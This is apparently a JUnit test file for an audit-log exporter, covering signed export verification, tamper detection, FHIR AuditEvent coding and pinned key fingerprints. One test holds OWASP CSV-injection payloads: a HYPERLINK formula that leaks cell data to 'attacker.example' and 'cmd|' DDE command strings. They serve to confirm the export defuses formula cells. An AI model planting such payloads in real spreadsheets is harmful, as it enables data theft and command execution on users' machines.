package io.warden.audit.internal;

import static org.assertj.core.api.Assertions.assertThat;

import io.warden.audit.AuditActor;
import io.warden.audit.AuditEvent;
import io.warden.audit.AuditTarget;
import io.warden.audit.ExportFormat;
import io.warden.audit.ExportVerifier;
import io.warden.audit.Outcome;
import io.warden.audit.Verification;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.PublicKey;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Exports in every format verify offline with only the public key, and any changed byte is caught. */
class ExportTests {

    @TempDir
    Path keys;

    AuditDatabase database;
    PostgresAuditLog log;
    SigningKeys.SigningKey key;
    AuditExporter exporter;

    @BeforeEach
    void start() {
        database = new AuditDatabase();
        key = SigningKeys.generatedIn(keys);
        log = PostgresAuditLogTests.newLog(database, key);
        log.start();
        for (int i = 1; i <= 25; i++) {
            log.append(PostgresAuditLogTests.event(i));
        }
        exporter = new AuditExporter(database.dataSource, key);
    }

    @AfterEach
    void stop() {
        log.stop();
    }

    Map<String, PublicKey> trusted() {
        return Map.of(key.keyId(), key.publicKey());
    }

    String export(ExportFormat format, long from, long to) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        exporter.export(format, from, to, out);
        return out.toString(StandardCharsets.UTF_8);
    }

    @ParameterizedTest
    @EnumSource(ExportFormat.class)
    void aRangeWidenedToItsCheckpointsVerifiesWithThePublicKeyAlone(ExportFormat format) throws Exception {
        String file = export(format, 12, 17);
        Verification result = ExportVerifier.verify(new StringReader(file), trusted());
        assertThat(result.valid()).as("%s", result).isTrue();
        assertThat(result.eventsChecked()).isEqualTo(10);
        assertThat(result.lastSignedSequence()).isEqualTo(20);
    }

    @ParameterizedTest
    @EnumSource(ExportFormat.class)
    void anExportFromTheGenesisWithAnUnsignedTailVerifies(ExportFormat format) throws Exception {
        Verification result = ExportVerifier.verify(new StringReader(export(format, 1, 25)), trusted());
        assertThat(result.valid()).as("%s", result).isTrue();
        assertThat(result.eventsChecked()).isEqualTo(25);
        assertThat(result.lastSignedSequence()).isEqualTo(20);
    }

    @ParameterizedTest
    @EnumSource(ExportFormat.class)
    void flippingAnyOneByteFails(ExportFormat format) throws Exception {
        String file = export(format, 12, 17);
        byte[] bytes = file.getBytes(StandardCharsets.UTF_8);
        int stride = Math.max(1, bytes.length / 400);
        int checked = 0;
        for (int i = 0; i < bytes.length; i += stride) {
            if (Character.isWhitespace(bytes[i]) && format == ExportFormat.FHIR_BUNDLE) {
                continue; // whitespace between Bundle entries carries no data
            }
            byte[] flipped = bytes.clone();
            flipped[i] = (byte) (flipped[i] == 'a' ? 'b' : flipped[i] ^ 0x01);
            Verification result =
                    ExportVerifier.verify(new StringReader(new String(flipped, StandardCharsets.UTF_8)), trusted());
            assertThat(result.valid())
                    .as("byte %d of %d (%s) flipped: %s", i, bytes.length, format, result)
                    .isFalse();
            assertThat(result.problem()).isNotBlank();
            checked++;
        }
        assertThat(checked).isGreaterThan(100);
    }

    @Test
    void aChangedRecordIsNamedBySequence() throws Exception {
        String file = export(ExportFormat.NDJSON, 12, 17)
                .replace("\"correlationId\\\":\\\"c-14\\\"", "\"correlationId\\\":\\\"c-99\\\"");
        Verification result = ExportVerifier.verify(new StringReader(file), trusted());
        assertThat(result.valid()).isFalse();
        assertThat(result.firstBadSequence()).isEqualTo(14);
        assertThat(result.problem()).isEqualTo("hash-mismatch");
    }

    @Test
    void anotherKeyProvesNothing() throws Exception {
        var stranger = SigningKeys.generatedIn(keys.resolve("stranger"));
        Verification result = ExportVerifier.verify(
                new StringReader(export(ExportFormat.NDJSON, 12, 17)), Map.of(stranger.keyId(), stranger.publicKey()));
        assertThat(result.valid()).isFalse();
        assertThat(result.problem()).isEqualTo("anchor-invalid");
    }

    @Test
    void fhirAuditEventsFollowBalpCoding() throws Exception {
        String line = export(ExportFormat.FHIR_NDJSON, 1, 5)
                .lines()
                .filter(l -> l.contains("\"AuditEvent\""))
                .findFirst()
                .orElseThrow();
        JsonNode event = JsonMapper.builder().build().readTree(line);
        assertThat(event.get("type").get("system").asString())
                .isEqualTo("http://dicom.nema.org/resources/ontology/DCM");
        assertThat(event.get("action").asString()).isEqualTo("U");
        assertThat(event.get("outcome").asString()).isEqualTo("0");
        assertThat(event.get("purposeOfEvent")
                        .get(0)
                        .get("coding")
                        .get(0)
                        .get("code")
                        .asString())
                .isEqualTo("TREAT");
        assertThat(event.get("agent").get(0).get("requestor").asBoolean()).isTrue();
        assertThat(event.get("source").get("type").get(0).get("code").asString())
                .isEqualTo("4");
        assertThat(event.get("entity")).hasSize(2);
    }

    @Test
    void aDelegatedCallNamesThePersonAsRequestorAndTheAgentAsTheSoftware() throws Exception {
        log.append(AuditEvent.builder(
                        "gateway.decision",
                        AuditActor.agent("demo-retrieval-agent", "owner-1"),
                        new AuditTarget("tool", "text-search"))
                .agent("demo-retrieval-agent")
                .tool("text-search")
                .decision("PERMIT")
                .outcome(Outcome.SUCCESS)
                .detail("onBehalfOf", "person-7")
                .detail("delegation", "token-exchange")
                .build());
        String line = export(ExportFormat.FHIR_NDJSON, 1, 26)
                .lines()
                .filter(l -> l.contains("\"AuditEvent\"") && l.contains("person-7"))
                .findFirst()
                .orElseThrow();
        JsonNode agents = JsonMapper.builder().build().readTree(line).get("agent");
        assertThat(agents).hasSize(3);
        assertThat(agents.get(0).get("requestor").asBoolean()).isTrue();
        assertThat(agents.get(0).get("type").get("coding").get(0).get("code").asString())
                .isEqualTo("humanuser");
        assertThat(agents.get(0).get("who").get("identifier").get("value").asString())
                .isEqualTo("person-7");
        assertThat(agents.get(0).get("policy").get(0).asString()).isEqualTo("token-exchange");
        assertThat(agents.get(1).get("requestor").asBoolean()).isFalse();
        assertThat(agents.get(1).get("who").get("identifier").get("value").asString())
                .isEqualTo("demo-retrieval-agent");
        assertThat(agents.get(1).get("type").get("coding").get(0).get("code").asString())
                .isEqualTo("dataprocessor");
        assertThat(agents.get(2).get("who").get("identifier").get("value").asString())
                .as("the agent's owner stays the responsible party")
                .isEqualTo("owner-1");
        String own = export(ExportFormat.FHIR_NDJSON, 1, 5)
                .lines()
                .filter(l -> l.contains("\"AuditEvent\""))
                .findFirst()
                .orElseThrow();
        assertThat(JsonMapper.builder()
                        .build()
                        .readTree(own)
                        .get("agent")
                        .get(0)
                        .get("requestor")
                        .asBoolean())
                .as("a call of the agent's own keeps it as the requestor")
                .isTrue();
    }

    /** OWASP's CSV-injection payloads, as an agent can send them in a refused call's dataset and purpose. */
    static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "'=already quoted");

    @Test
    void formulaCellsComeOutInertAndTheExportStillVerifiesAsDoOlderExports() throws Exception {
        for (String formula : FORMULAS) {
            log.append(AuditEvent.builder(
                            "gateway.decision", AuditActor.agent(formula, null), new AuditTarget("tool", "text-search"))
                    .agent(formula)
                    .dataset(formula)
                    .purposeOfUse(formula)
                    .tool("text-search")
                    .decision("DENY")
                    .reason("INVALID_REQUEST")
                    .outcome(Outcome.MINOR_FAILURE)
                    .build());
        }
        String csv = export(ExportFormat.CSV, 1, 25 + FORMULAS.size());
        for (String formula : FORMULAS) {
            String quoted = formula.contains(",") || formula.contains("\"") || formula.contains("\r") ? "\"" : "";
            String raw = quoted + formula.replace("\"", "\"\"");
            String inert = quoted + "'" + formula.replace("\"", "\"\"");
            assertThat(csv).as(formula).contains("," + inert).doesNotContain("," + raw + ",");
        }
        for (String line : csv.split("\r\n")) {
            for (String cell : line.split(",", -1)) {
                String value = cell.startsWith("\"") ? cell.substring(1) : cell;
                assertThat(value)
                        .as("a cell of: %s", line)
                        .doesNotStartWith("=")
                        .doesNotStartWith("+")
                        .doesNotStartWith("@")
                        .doesNotStartWith("\t")
                        .doesNotStartWith("\r");
            }
        }
        Verification result = ExportVerifier.verify(new StringReader(csv), trusted());
        assertThat(result.valid()).as("%s", result).isTrue();
        assertThat(result.eventsChecked()).isEqualTo(25 + FORMULAS.size());

        // as an export made before formula cells were defused: the same cells without the leading quote
        String older = csv;
        for (String formula : FORMULAS) {
            String escaped = formula.replace("\"", "\"\"");
            older = older.replace("'" + escaped, escaped);
        }
        assertThat(older).isNotEqualTo(csv);
        Verification olderResult = ExportVerifier.verify(new StringReader(older), trusted());
        assertThat(olderResult.valid()).as("%s", olderResult).isTrue();
    }

    @Test
    void theCommandLineSaysValidOrWhereItFails() throws Exception {
        Path publicKey = keys.resolve("audit-signing-key.pub.pem");
        Path file = keys.resolve("export.csv");
        Files.writeString(file, export(ExportFormat.CSV, 3, 9));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ByteArrayOutputStream err = new ByteArrayOutputStream();
        int status = ExportVerifier.run(
                new String[] {"--public-key", publicKey.toString(), file.toString()},
                new PrintStream(out),
                new PrintStream(err));
        assertThat(status).as(err.toString()).isZero();
        assertThat(out.toString()).startsWith("VALID");

        Files.writeString(file, Files.readString(file).replace("PERMIT", "PERMIX"));
        out.reset();
        status = ExportVerifier.run(
                new String[] {"--public-key", publicKey.toString(), file.toString()},
                new PrintStream(out),
                new PrintStream(err));
        assertThat(status).isEqualTo(1);
        assertThat(out.toString())
                .startsWith("INVALID at sequence")
                .doesNotContain("Exception")
                .doesNotContain("\tat ");

        assertThat(ExportVerifier.run(new String[] {file.toString()}, new PrintStream(out), new PrintStream(err)))
                .isEqualTo(2);
    }

    /** Threat: a key planted where the auditor fetches keys; only a pinned fingerprint decides what is trusted. */
    @Test
    void onlyKeysWithAPinnedFingerprintAreTrustedAndNoPinIsALoudWarning() throws Exception {
        Path publicKey = keys.resolve("audit-signing-key.pub.pem");
        Path file = keys.resolve("export.ndjson");
        Files.writeString(file, export(ExportFormat.NDJSON, 1, 25));
        String wrong = SigningKeys.fingerprint(
                SigningKeys.generatedIn(keys.resolve("stranger")).publicKey());

        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ByteArrayOutputStream err = new ByteArrayOutputStream();
        int status = ExportVerifier.run(
                new String[] {"--trust", wrong, "--public-key", publicKey.toString(), file.toString()},
                new PrintStream(out),
                new PrintStream(err));
        assertThat(status).isEqualTo(1);
        assertThat(out.toString()).startsWith("INVALID").contains("pinned");

        out.reset();
        err.reset();
        status = ExportVerifier.run(
                new String[] {
                    "--trust",
                    SigningKeys.fingerprint(key.publicKey())
                            .toUpperCase(Locale.ROOT)
                            .replace("SHA256:", "sha256:"),
                    "--public-key",
                    publicKey.toString(),
                    file.toString()
                },
                new PrintStream(out),
                new PrintStream(err));
        assertThat(status).as(err.toString()).isZero();
        assertThat(out.toString()).startsWith("VALID");
        assertThat(err.toString()).doesNotContain("WARNING");

        out.reset();
        err.reset();
        status = ExportVerifier.run(
                new String[] {"--public-key", publicKey.toString(), file.toString()},
                new PrintStream(out),
                new PrintStream(err));
        assertThat(status).isZero();
        assertThat(err.toString()).contains("WARNING: no key fingerprint was pinned");

        err.reset();
        assertThat(ExportVerifier.run(
                        new String[] {"--trust", "sha1:abc", "--public-key", publicKey.toString(), file.toString()},
                        new PrintStream(out),
                        new PrintStream(err)))
                .isEqualTo(2);
        assertThat(err.toString()).contains("--trust");
    }

    @Test
    void theFingerprintIsTheSha256OfTheSpkiDer() throws Exception {
        byte[] digest =
                MessageDigest.getInstance("SHA-256").digest(key.publicKey().getEncoded());
        assertThat(SigningKeys.fingerprint(key.publicKey()))
                .isEqualTo("sha256:" + HexFormat.of().formatHex(digest));
    }
}
